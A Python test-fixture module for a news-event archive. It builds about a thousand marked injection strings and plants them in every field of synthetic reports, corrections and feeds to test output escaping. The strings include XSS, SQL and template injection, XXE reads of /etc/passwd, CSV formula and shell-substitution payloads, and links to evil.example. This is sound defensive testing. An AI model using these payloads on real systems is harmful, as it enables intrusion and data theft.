"""A thousand strings that would do something if a page took them for more than text, and reports that hold them everywhere.

Each holds a mark of its own (``zq17z``); where the mark stands in a page tells what the page made of the string.
"""

# ruff: noqa: E501 - tables of strings are easier to read in long lines
from __future__ import annotations

import re
from datetime import UTC, date, datetime, timedelta
from itertools import product
from typing import Final

from depesche.archive import Archive
from depesche.archive.arrival import Arrival, Outcome
from depesche.archive.quarantine import Refusal, quarantine
from depesche.archive.visits import note_visit
from depesche.codes import quad
from depesche.errors import CorrectionError
from depesche.record import Article, Coder, Entity, Event, EventPlace, Place, Record, Statement, Time
from depesche.web.keeping import Corrections, Searches, Wrong

COUNT: Final = 1_000
CHUNK: Final = 50
FIRST: Final = date(2024, 1, 1)
MARK: Final = re.compile(r"zq\d+z")

_HANDLERS = ("onload", "onerror", "onclick", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onpointerover")
_TAGS = ("img src=x", "svg", "body", "iframe", "details open", "video src=x", "input autofocus", "marquee")
_RUN = "window.__hit='§'"
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT >",
    f"<script/src=data:,{_RUN}></script>",
    f"<script type=module>{_RUN}//§</script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style></noscript></template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f'"}}]}};{_RUN};//',
    f"\\u003cscript>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
)
_PICTURES = (
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>§</text></a></svg>',
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<svg><foreignObject><body onload="{_RUN}"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,§#x"/></svg>',
    f'<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
    f'<math href="javascript:{_RUN}">§</math>',
    f'<math><annotation-xml encoding="text/html"><script>{_RUN}</script></annotation-xml></math>',
)
_STYLES = (
    "<style>@import '//evil.example/§';</style>",
    "<style>*{background:url(//evil.example/§)}</style>",
    "<link rel=stylesheet href=//evil.example/§>",
    'x" style="background:url(//evil.example/§)',
    "}</style>{} body{display:none/*§*/}",
    "<div style=width:expression(§)>",
)
_TEMPLATES = (
    "{{7*7}}§", "{{ ''.__class__.__mro__ }}§", "{% include '/etc/passwd' %}§", "{# § #}", "${7*7}§", "#{7*7}§", "<%= 7*7 %>§",
    "{{constructor.constructor('§')()}}", "§{0.__class__}%(name)s%s%n", "{{ config }}§", "[[${7*7}]]§", "*{7*7}§",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"\x01javascript:{_RUN}", f" javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD4§", f"vbscript:{_RUN}", "//evil.example/§",
    "\\\\evil.example\\§", "https:evil.example/§", "http://evil.example@127.0.0.1/§", "file:///etc/§", "blob:http://evil.example/§",
    "view-source:§", "/\\evil.example/§", "https://evil.example/§\"onclick=\"x", "../../../../etc/§", "%2e%2e%2f§", "?q=§#§",
)  # fmt: skip
_DIRECTIONS = tuple(
    pattern.replace("!", sign)
    for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
    for pattern in ("§!txt.exe", "!§", "!<img src=x onerror=x>§", "§!!!!! not ended")
)
_CHARACTERS = (
    "§\u2028§", "§\u2029<script>§", "§\x85§", "§\x0b\x0c§", "§\r§", "§\r\n§", "§\u2400§", "§\x01\x08\x1b[31m§", "§\ufffe\uffff§",
    "§\ufeff§", "§\u200b\u200d\u00ad§", "§\U000e0041\U000e007f§", "§" + "\u0301" * 300, "§\ud7ff\ue000§", "§\x7f\x9f§", "§\ufdd0§",
)  # fmt: skip
_ATTRIBUTES = (
    f"\" onmouseover=\"{_RUN}", f"' onmouseover='{_RUN}", f"` onmouseover={_RUN}", f"x onmouseover={_RUN} ", f"\">{_RUN}<b class=§>",
    f"' autofocus onfocus={_RUN} x='", "\"/><base href=//evil.example/§>", "\" srcdoc=\"§", "\" formaction=\"//evil.example/§",
    "\"><form action=//evil.example/§><button>", "\"><meta http-equiv=refresh content=0;url=//evil.example/§>", "\"><plaintext>§",
)  # fmt: skip
_DATA = (
    "'; DROP TABLE event; --§", "' OR '1'='1' --§", "1); SELECT pg_sleep(10); --§", "\" OR event:* NEAR(§", "%_§\\", "§' UNION SELECT 1,2--",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;§", "<?xml version='1.0'?>§", "<?php echo '§'; ?>", "<!--#exec cmd='§'-->",
    "<entry><title>§</title></entry>", "</content></entry></feed>§", "</text></svg><script>§</script>", "&amp;&bogus;&#0;&#x110000;§",
    "=cmd|' /C calc'!§", "+1+cmd|§", "-2+3+cmd|§", "@SUM(1+1)*§", "=HYPERLINK(\"//evil.example/§\")", "\t=1+§", "\r=1+§",
    "[x](javascript:§)", "![x](//evil.example/§)", "<//evil.example/§>", "#read(\"/etc/§\") $1+1$", "`§`\n\n# §\n\n- §", "{\"__proto__\":{\"§\":1}}",
    "§,\"\n§,\"\";", "$(touch §) `touch §` | §", "../§\\..\\§", "actor:RUS OR (\"§", "type:§ -\"", "()()()§\"", "§:§:§",
)  # fmt: skip
_LONG = (
    "§" + "x" * 3_000,
    "§" + "<b>" * 700,
    "§" + "&" * 2_000,
    "§ " * 400,
    "§" + "\u202e" * 500,
    "§" + "((((((((" * 200,
)

FAMILIES: Final = (
    *_SCRIPTS, *_PICTURES, *_STYLES, *_TEMPLATES, *_ADDRESSES, *_DIRECTIONS, *_CHARACTERS, *_ATTRIBUTES, *_DATA, *_LONG,
    *(f"<{tag} {handler}=\"{_RUN}\">" for tag, handler in product(_TAGS, _HANDLERS)),
)  # fmt: skip
_AROUND: Final = ("{}", '"{}', "'>{}", "Wien: {} (dpa)", "{}{}")


def strings(count: int = COUNT) -> list[str]:
    """The first so many: each family alone, then behind and within other signs."""
    made = [around.replace("{}", one) for around in _AROUND for one in FAMILIES]
    assert len(made) >= count
    return [one.replace("§", f"zq{number}z") for number, one in enumerate(made[:count])]


def day(number: int) -> date:
    """When what holds the string of this number happened: those of a chunk on one day."""
    return FIRST + timedelta(days=number // CHUNK)


def report(text: str, number: int) -> Record:
    """A report that says the same everywhere something can be said."""
    body = f"{text}\n\n{text} sagt: {text}"
    whole, kind = (0, len(body)), ("THREATEN", "REQUEST", "AGREE", "AID")[number % 4]
    when = day(number).isoformat()
    return Record(
        article=Article(
            id=f"a{number}", text=body, language="de", title=text, published=when, publisher=text,
            url=f"{text}/{number}" if number % 2 else f"https://blatt.example/{number}?{text}",
        ),
        entities=[
            Entity(id="n1", name=text, kind="person", country="JPN", mentions=[(0, len(text))]),
            Entity(id="n2", name=f"{text} 2", kind="organisation", wikidata=text, mentions=[(0, len(text))]),
            Entity(id="n3", name=text, kind="country", country="PRK", mentions=[whole]),
        ],
        statements=[
            Statement(id="s1", source=["n1"], via=["n2"], recipient=["n3"], mode="direct", content=[whole], negated=number % 3 == 0),
            Statement(id="s2", source=["n2"], mode="indirect", content=[(1, len(text))], cue=(0, 1), within="s1"),
        ],
        events=[
            Event(id="e1", type=kind, quad=quad(kind), actors=["n1"], recipients=["n2"], trigger=(0, len(text)), sentence=whole,
                  date=when, according_to="s2", place=EventPlace(name=text, country="JPN", lat=35.0 + number % 40, lon=99.0)),
            Event(id="e2", type=kind, quad=quad(kind), actors=["n1"], recipients=["n3"], trigger=(0, 1), sentence=whole, date=when),
        ],
        times=[Time(span=(0, 1), type="DATE", value=text, edtf=None)],
        places=[Place(span=(0, 1), name=text, country="JPN")],
    )  # fmt: skip


def keep(archive: Archive, texts: list[str], first: int = 0) -> None:
    """Keep reports of these strings; the first is report ``first + 1`` of the archive."""
    outcomes = archive.keep(
        [
            Arrival(
                record=report(text, number),
                coder=Coder(version=text, models=text, lexicon=text),
                source=text,
                guid=text,
            )
            for number, text in enumerate(texts, first)
        ]
    )
    assert set(outcomes) == {Outcome.new}


def say(archive: Archive, texts: list[str]) -> list[str]:
    """What people and sources add to the reports, one of each a string; the addresses of the feeds."""
    corrections, searches = Corrections(archive), Searches(archive)
    feeds = []
    for at, text in enumerate(texts):
        wrong = {
            "event": {"actors": ["new1"]},
            "entities": [{"id": "new1", "name": text, "kind": "person", "mentions": [(0, 1)]}],
        }
        try:
            corrections.add(at + 1, Wrong.changed, "e2", wrong, note=text, author=text)
        except CorrectionError:  # what cannot be a name
            corrections.add(at + 1, Wrong.wrong, "e2", note=text, author=text)
        kind = ("events", "statements", "articles")[at // CHUNK % 3]
        around = ",".join(str(at - at % CHUNK + one) for one in range(1, CHUNK + 1))
        feeds.append(f"/feed/{searches.add(None, text[:200], f'article:{around}', kind).feed_key}.atom")  # type: ignore[arg-type]
    with archive.writing() as connection:
        quarantine(connection, [Refusal(source=text, sha256="", reason=text, remedy=text) for text in texts])
        for text in texts:
            note_visit(connection, text, now=datetime.now(UTC), error=text)
    return feeds
